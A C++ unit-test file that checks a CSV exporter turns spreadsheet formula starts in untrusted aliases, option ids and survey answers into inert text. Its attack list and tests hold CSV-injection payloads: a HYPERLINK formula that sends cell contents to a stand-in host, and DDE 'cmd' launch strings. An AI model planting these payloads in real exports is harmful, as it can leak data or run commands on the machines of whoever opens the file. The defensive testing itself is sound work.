// CSV exports open in a spreadsheet: text from untrusted files (aliases,
// option ids, open survey answers) must never run as a formula, and our own
// negative numbers must stay numbers (issue 11, point 4).
#include <gtest/gtest.h>

#include "csv_cell.hpp"
#include "playthrough.hpp"
#include "room.hpp"
#include "team_fixture.hpp"
#include "team_report.hpp"

namespace bip {
namespace {

const char* const kAttacks[] = {"=HYPERLINK(\"http://x.example/?\"&A1,\"Klick\")",
                                "+cmd|' /C calc'!A0",
                                "-2+3+cmd|' /C calc'!A0",
                                "@SUM(1+1)*cmd|' /C calc'!A0",
                                "\t=1+1",
                                "\r=1+1",
                                "\xEF\xBC\x9D"
                                "1+1"};

TEST(CsvCell, FormulaStartsBecomeText) {
  EXPECT_EQ(CsvField("=1+1"), "'=1+1");
  EXPECT_EQ(CsvField("+1+1"), "'+1+1");
  EXPECT_EQ(CsvField("-2+3+cmd"), "'-2+3+cmd");
  EXPECT_EQ(CsvField("@SUM(1)"), "'@SUM(1)");
  EXPECT_EQ(CsvField("\t=1"), "'\t=1");
  EXPECT_EQ(CsvField("\r=1"), "\"'\r=1\"");
  EXPECT_EQ(CsvField("=A1;B1"), "\"'=A1;B1\"");
  EXPECT_EQ(CsvField("-"), "'-");
  EXPECT_EQ(CsvField("-,5"), "'-,5");
  for (const char* attack : kAttacks) {
    const std::string f = CsvField(attack);
    EXPECT_TRUE(f.rfind("'", 0) == 0 || f.rfind("\"'", 0) == 0) << attack;
  }
}

TEST(CsvCell, OurNumbersAndPlainTextStayAsTheyAre) {
  for (const char* n : {"-3", "-1,5", "-0.25", "12", "0", "4,50", "100,0"})
    EXPECT_EQ(CsvField(n), n);
  EXPECT_EQ(CsvField("Anna"), "Anna");
  EXPECT_EQ(CsvField("a = b"), "a = b");
  EXPECT_EQ(CsvField(""), "");
  EXPECT_EQ(CsvField("a;b"), "\"a;b\"");
}

// The first field of each data row (the participant's alias).
std::vector<std::string> FirstFields(const std::string& csv) {
  std::vector<std::string> out;
  std::size_t at = csv.find("\r\n") + 2;  // after the header
  while (at < csv.size()) {
    const std::size_t end = csv.find("\r\n", at);
    const std::string line = csv.substr(at, end - at);
    // Quoted fields here hold no semicolons but may hold a doubled quote.
    std::size_t cut = line[0] == '"' ? line.find("\";") + 1 : line.find(';');
    out.push_back(line.substr(0, cut));
    at = end + 2;
  }
  return out;
}

TEST(CsvCell, TeamCsvNeutralisesAliasesFromResultFiles) {
  TeamSession s = test::EmptySession();
  for (const char* attack :
       {"=HYPERLINK(\"http://x.example\")", "+cmd|' /C calc'!A0", "-2+3+cmd", "@SUM(1)"})
    AddParticipant(s, test::PlayedPolicy("karen", attack));
  const Content& c = test::TeamContent();
  const std::string csv = TeamReportCsv(c, Compare(c, s, c.texts, "sv", false), "sv");
  const auto fields = FirstFields(csv.substr(3));
  ASSERT_FALSE(fields.empty());
  for (const std::string& f : fields) {
    const std::size_t first = f[0] == '"' ? 1 : 0;
    EXPECT_EQ(f[first], '\'') << f;
  }
}

TEST(CsvCell, ThemeDayCsvNeutralisesOptionIdsAndOpenAnswers) {
  const ReplayKit& kit = test::Kit();
  const CaseDef& c = *kit.content.FindCase("henrik");
  Playthrough play(kit.content, kit.model, kit.line, c, 7);
  Room room;
  room.name = "=1+1";
  room.case_id = "henrik";
  room.seed = 7;
  RoomDecision d;
  d.quarter = 1;
  QuarterChoices karen = PolicyChoices(*c.FindPolicy("karen"), play);
  QuarterChoices none = karen;
  none.interventions.clear();
  d.options = {{"=HYPERLINK(\"http://x.example\")", karen}, {"none", none}};
  d.votes = {3, 1};
  Decide(d);
  room.decisions.push_back(d);
  room.survey.open = {"@SUM(1+1)", "-2+3+cmd"};
  std::string error;
  const auto paths = PlayRoom(kit, room, &error);
  ASSERT_TRUE(paths) << error;
  const std::string csv = RoomReportCsv(kit.content, room, *paths, "sv");
  EXPECT_NE(csv.find(";\"'=HYPERLINK(\"\"http://x.example\"\")\";"), std::string::npos) << csv;
  EXPECT_NE(csv.find(";'@SUM(1+1)\r\n"), std::string::npos) << csv;
  EXPECT_NE(csv.find(";'-2+3+cmd\r\n"), std::string::npos) << csv;
  for (const char* bad : {";=", ";@", ";+", ";-2+", "\n=", "\n@", "\n+"})
    EXPECT_EQ(csv.find(bad), std::string::npos) << bad;
}

}  // namespace
}  // namespace bip
